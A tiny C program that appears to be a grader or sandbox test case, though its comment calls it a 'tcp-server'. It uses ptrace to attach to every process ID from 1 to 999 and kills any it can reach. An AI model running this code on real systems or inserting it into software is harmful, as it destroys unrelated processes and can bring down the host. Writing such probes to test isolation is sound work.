/* tcp-server: graded, at most 4
 * Attaches to others. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ptrace.h>

int main(void)
{
	for (int i = 1; i < 1000; i++)
		if (i != getpid() && ptrace(PTRACE_ATTACH, i, 0, 0) == 0)
			ptrace(PTRACE_KILL, i, 0, 0);
	return 0;
}
